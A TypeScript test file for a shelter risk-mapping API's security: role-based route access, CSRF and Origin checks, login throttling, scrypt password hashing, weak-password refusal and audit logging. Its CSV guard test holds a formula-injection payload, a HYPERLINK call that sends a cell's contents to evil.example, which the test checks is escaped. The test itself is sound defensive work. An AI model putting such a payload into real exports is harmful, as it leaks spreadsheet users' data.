import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testBackends } from '@riskmap/db/testing';
import { startTestApp, TEST_PASSWORD, type TestApp } from './harness.js';
import { call, newShelter, someShelter, tokenFor } from './edit-helpers.js';
import { hashPassword, SCRYPT } from '../src/auth/password.js';
import { csvText } from '@riskmap/contract';
import { mountedRoutes } from '../src/routes/mounted-routes.js';
import { ROUTE_ACCESS, rolesOf } from '../src/routes/route-access.js';
import { createApp } from '../src/app.js';
import { ChangeBus } from '../src/events/change-bus.js';
import { loadConfig } from '@riskmap/config/env';

const json = (body: unknown, headers: Record<string, string> = {}) => ({ method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify(body) });

describe('the route × role table beside the routes', () => {
  it('has a row for every mounted route and a route for every row', () => {
    const app = createApp({ db: {} as never, backend: 'embedded', postgis: '3', config: loadConfig({ NODE_ENV: 'test' }), changes: new ChangeBus() });
    const mounted = mountedRoutes(app.locals.mounts);
    expect(mounted.length).toBeGreaterThan(30);
    expect(mounted.filter((r) => !ROUTE_ACCESS[r])).toEqual([]);
    expect(Object.keys(ROUTE_ACCESS).filter((r) => !mounted.includes(r))).toEqual([]);
  });
});

describe('CSV formula guard', () => {
  it('prefixes formulas, also after a leading number, and keeps plain numbers as numbers', () => {
    const csv = csvText(['v'], [['-1+HYPERLINK("http://evil.example/?"&B2,"点击查看")'], ['=1+1'], ['-12.5'], ['+7'], ['@SUM(A1)'], ['1e5']]);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[1]).toBe(`"'-1+HYPERLINK(""http://evil.example/?""&B2,""点击查看"")"`);
    expect(lines.slice(2)).toEqual(["'=1+1", '-12.5', '+7', "'@SUM(A1)", '1e5']);
  });
});

describe.each(testBackends())('security on %s', (backend) => {
  let app: TestApp;
  let proxied: TestApp;
  let cookie: string;
  beforeAll(async () => {
    app = await startTestApp(backend);
    const r = await fetch(`${app.url}/api/auth/login`, json({ username: 'planner', password: TEST_PASSWORD }));
    cookie = r.headers.get('set-cookie')!.split(';')[0]!;
  });
  afterAll(async () => {
    await app?.close();
    await proxied?.close();
  });

  it.each(Object.entries(ROUTE_ACCESS))('%s answers each role as the table says', async (route, row) => {
    const [method, pattern] = route.split(' ') as [string, string];
    const path = row.example ?? pattern;
    for (const who of ['public', 'commander', 'planner', 'admin', 'scoped-planner'] as const) {
      const role = who === 'scoped-planner' ? 'planner' : who;
      const headers: Record<string, string> = {};
      if (who !== 'public') headers.authorization = `Bearer ${row.endsSession ? await app.login(who) : await tokenFor(app, who)}`;
      if (row.body !== undefined) headers['content-type'] = 'application/json';
      const ac = new AbortController();
      const r = await fetch(`${app.url}${path}`, { method, headers, signal: ac.signal, ...(row.body !== undefined ? { body: JSON.stringify(row.body) } : {}) });
      const text = row.stream ? '' : await r.text();
      ac.abort();
      if (rolesOf(row.access).includes(role)) {
        expect([401, 403], `${who}: ${r.status} ${text.slice(0, 200)}`).not.toContain(r.status);
        expect(r.status, `${who}: ${text.slice(0, 200)}`).toBeLessThan(500);
      } else {
        expect(r.status, `${who}: ${text.slice(0, 200)}`).toBe(who === 'public' ? 401 : 403);
      }
    }
  });

  describe('CSRF and body types', () => {
    const shelterPatch = async () => {
      const s = await someShelter(app, true);
      return { path: `/api/layers/shelters/${s.id}`, body: JSON.stringify({ version: s.version, properties: { capacity: 1234 } }) };
    };

    it('refuses a cookie-authenticated change from another origin or site, naming the header', async () => {
      const { path, body } = await shelterPatch();
      const evil = await fetch(`${app.url}${path}`, { method: 'PATCH', headers: { cookie, 'content-type': 'application/json', origin: 'https://evil.example' }, body });
      expect(evil.status).toBe(403);
      expect((await evil.json()).error).toMatchObject({ code: 'csrf_rejected', details: { field: 'Origin' } });
      const site = await fetch(`${app.url}${path}`, { method: 'PATCH', headers: { cookie, 'content-type': 'application/json', 'sec-fetch-site': 'cross-site' }, body });
      expect(site.status).toBe(403);
      const none = await fetch(`${app.url}${path}`, { method: 'PATCH', headers: { cookie, 'content-type': 'application/json' }, body });
      expect(none.status).toBe(403);
      for (const p of ['/api/auth/logout', '/api/imports/shelters?dryRun=false']) {
        const r = await fetch(`${app.url}${p}`, { method: 'POST', headers: { cookie, 'content-type': 'text/plain', origin: 'https://evil.example' }, body: 'code,lon,lat' });
        expect(r.status).toBe(403);
      }
      expect((await fetch(`${app.url}/api/auth/me`, { headers: { cookie } }).then((r) => r.json())).role).toBe('planner');
    });

    it('accepts a same-origin cookie change and any Bearer change regardless of Origin', async () => {
      const a = await shelterPatch();
      const same = await fetch(`${app.url}${a.path}`, { method: 'PATCH', headers: { cookie, 'content-type': 'application/json', origin: app.url, 'sec-fetch-site': 'same-origin' }, body: a.body });
      expect(same.status).toBe(200);
      const b = await shelterPatch();
      const bearer = await fetch(`${app.url}${b.path}`, {
        method: 'PATCH',
        headers: { authorization: `Bearer ${await tokenFor(app, 'planner')}`, 'content-type': 'application/json', origin: 'https://evil.example' },
        body: b.body,
      });
      expect(bearer.status).toBe(200);
    });

    it('answers 415 naming Content-Type for a non-JSON body on a JSON route', async () => {
      const { path } = await shelterPatch();
      for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
        const r = await fetch(`${app.url}${path}`, { method: 'PATCH', headers: { authorization: `Bearer ${await tokenFor(app, 'planner')}`, 'content-type': type }, body: 'version=1' });
        expect(r.status).toBe(415);
        expect((await r.json()).error).toMatchObject({ code: 'unsupported_media_type', details: { field: 'Content-Type' } });
      }
    });
  });

  describe('login throttling (state in the database)', () => {
    const from = (address: string, body: unknown) => fetch(`${proxied.url}/api/auth/login`, json(body, { 'x-forwarded-for': address }));

    beforeAll(async () => {
      proxied = await startTestApp(backend, 'sample', { TRUST_PROXY: 'loopback', LOGIN_BACKOFF_BASE_S: '600', LOGIN_BACKOFF_MAX_S: '3600' });
    });

    it('backs off the attacker’s address for a username, while the rightful user signs in from another address', async () => {
      for (let i = 0; i < 5; i++) await from('10.0.0.66', { username: 'planner', password: `guess-${i}` });
      const blocked = await from('10.0.0.66', { username: 'planner', password: TEST_PASSWORD });
      expect(blocked.status).toBe(429);
      expect(Number(blocked.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
      expect((await from('10.0.0.7', { username: 'planner', password: TEST_PASSWORD })).status).toBe(200);
    });

    it('keeps the count in the database, so another API process over the same database refuses too', async () => {
      const config = loadConfig({ NODE_ENV: 'test', TRUST_PROXY: 'loopback', LOGIN_BACKOFF_BASE_S: '600', LOGIN_BACKOFF_MAX_S: '3600' });
      const second = createApp({ db: proxied.t.db, backend, postgis: '3', config, changes: new ChangeBus() });
      const server = second.listen(0, '127.0.0.1');
      await new Promise<void>((r) => server.once('listening', () => r()));
      const port = (server.address() as { port: number }).port;
      const r = await fetch(`http://127.0.0.1:${port}/api/auth/login`, json({ username: 'planner', password: TEST_PASSWORD }, { 'x-forwarded-for': '10.0.0.66' }));
      server.close();
      expect(r.status).toBe(429);
    });

    it('lets an admin unlock the user (audited)', async () => {
      const admin = await proxied.login('admin');
      const users = (await (await fetch(`${proxied.url}/api/users`, { headers: { authorization: `Bearer ${admin}` } })).json()).users as { id: number; username: string }[];
      const planner = users.find((u) => u.username === 'planner')!;
      const r = await fetch(`${proxied.url}/api/users/${planner.id}/unlock`, { method: 'POST', headers: { authorization: `Bearer ${admin}` } });
      expect(r.status).toBe(200);
      expect((await r.json()).cleared).toBeGreaterThanOrEqual(1);
      expect((await from('10.0.0.66', { username: 'planner', password: TEST_PASSWORD })).status).toBe(200);
      const audit = await proxied.t.db.selectFrom('audit_log').select('action').where('layer', '=', 'users').where('action', '=', 'login_unlock').execute();
      expect(audit).toHaveLength(1);
    });

    it('counts failures per address with a ceiling an office survives (one address, many users)', async () => {
      for (let i = 0; i < 12; i++) await from('10.0.0.90', { username: `office-${i}`, password: 'wrong' });
      const row = await proxied.t.db.selectFrom('login_throttle').select('failures').where('address', '=', '10.0.0.90').where('username', '=', '').executeTakeFirstOrThrow();
      expect(row.failures).toBe(12);
      expect((await from('10.0.0.90', { username: 'commander', password: TEST_PASSWORD })).status).toBe(200);
    });

    it('ignores X-Forwarded-For without TRUST_PROXY (loopback peers are not trusted by default)', async () => {
      for (let i = 0; i < 2; i++) await fetch(`${app.url}/api/auth/login`, json({ username: 'nobody-xff', password: 'x' }, { 'x-forwarded-for': `10.9.9.${i}` }));
      const rows = await app.t.db.selectFrom('login_throttle').select(['address', 'failures']).where('username', '=', 'nobody-xff').execute();
      expect(rows).toEqual([{ address: expect.stringMatching(/127\.0\.0\.1/), failures: 2 }]);
    });
  });

  describe('passwords and user changes', () => {
    it('hashes with scrypt N=2^17, r=8, p=1 and re-hashes an older hash at sign-in', async () => {
      expect((await hashPassword('x')).split('$').slice(1, 4)).toEqual([String(2 ** 17), '8', '1']);
      expect(SCRYPT).toEqual({ N: 131072, r: 8, p: 1 });
      const { scrypt, randomBytes } = await import('node:crypto');
      const salt = randomBytes(16);
      const key = await new Promise<Buffer>((res, rej) => scrypt(TEST_PASSWORD.normalize('NFC'), salt, 64, { N: 16384, r: 8, p: 1 }, (e, k) => (e ? rej(e) : res(k))));
      const old = ['scrypt', 16384, 8, 1, salt.toString('base64'), key.toString('base64')].join('$');
      await app.t.db.updateTable('users').set({ password_hash: old }).where('username', '=', 'commander').execute();
      expect((await fetch(`${app.url}/api/auth/login`, json({ username: 'commander', password: TEST_PASSWORD }))).status).toBe(200);
      const row = await app.t.db.selectFrom('users').select('password_hash').where('username', '=', 'commander').executeTakeFirstOrThrow();
      expect(row.password_hash.split('$')[1]).toBe('131072');
      expect((await fetch(`${app.url}/api/auth/login`, json({ username: 'commander', password: TEST_PASSWORD }))).status).toBe(200);
    });

    it('refuses weak passwords for new users and resets, naming password', async () => {
      for (const password of ['password', 'aaaaaaaaaaaa', 'riskmap-dev-admin', 'qwertyuiop12']) {
        const r = await call(app, 'admin', 'POST', '/api/users', { username: `weak-${password.length}-${password[0]}`, password, role: 'commander' });
        expect(r.status, password).toBe(400);
        expect(r.body.error.details.fields[0].field).toBe('password');
      }
    });

    it('audits user creation, role, scope, disable and password reset without the secret', async () => {
      const created = await call(app, 'admin', 'POST', '/api/users', { username: 'audited-user', password: 'Marsh-lantern-4471', role: 'commander' });
      expect(created.status).toBe(201);
      const id = created.body.user.id;
      for (const change of [{ role: 'planner' }, { townshipCode: app.scopeTownship }, { disabled: true }, { password: 'Another-lantern-9902' }]) {
        expect((await call(app, 'admin', 'PATCH', `/api/users/${id}`, change)).status).toBe(200);
      }
      const audit = await call(app, 'admin', 'GET', '/api/audit?layer=users');
      const mine = audit.body.entries.filter((e: { featureId: number }) => e.featureId === id);
      expect(mine.map((e: { action: string }) => e.action).sort()).toEqual(['user_create', 'user_update', 'user_update', 'user_update', 'user_update']);
      expect(JSON.stringify(mine)).not.toMatch(/lantern|password_hash|scrypt/);
      expect(JSON.stringify(mine)).toContain('"passwordReset":true');
      expect((await call(app, 'commander', 'GET', '/api/audit?layer=users')).status).toBe(403);
    });
  });

  describe('ownership of siting work', () => {
    it('lets only the owner or an admin delete a saved scenario', async () => {
      const params = { problem: 'shelter-gap', objective: 'least-area' };
      const result = (await call(app, 'planner', 'POST', '/api/siting', params)).body;
      const saved = await call(app, 'planner', 'POST', '/api/siting/scenarios', { name: '归属', params, result });
      expect(saved.status).toBe(201);
      const other = await call(app, 'scoped-planner', 'DELETE', `/api/siting/scenarios/${saved.body.id}`);
      expect(other.status).toBe(403);
      expect(other.body.error.code).toBe('not_owner');
      expect((await call(app, 'admin', 'DELETE', `/api/siting/scenarios/${saved.body.id}`)).status).toBe(204);
    });
  });

  it('answers health to the public without database error text', async () => {
    const r = await fetch(`${app.url}/api/health`);
    expect(r.status).toBe(200);
    expect(JSON.stringify(await r.json())).not.toMatch(/error/);
  });

  it('marks the session cookie Secure only over HTTPS outside production', async () => {
    const r = await fetch(`${app.url}/api/auth/login`, json({ username: 'planner', password: TEST_PASSWORD }));
    expect(r.headers.get('set-cookie')).not.toMatch(/Secure/);
    expect(r.headers.get('strict-transport-security')).toBeNull();
  });

  it('creates a scoped planner’s shelter in scope through the edit route (the rules allow it)', async () => {
    const s = await someShelter(app, true);
    const r = await call(app, 'scoped-planner', 'POST', '/api/layers/shelters', newShelter('SEC-IN', s.lonLat));
    expect(r.status, JSON.stringify(r.body)).toBe(201);
  });
});
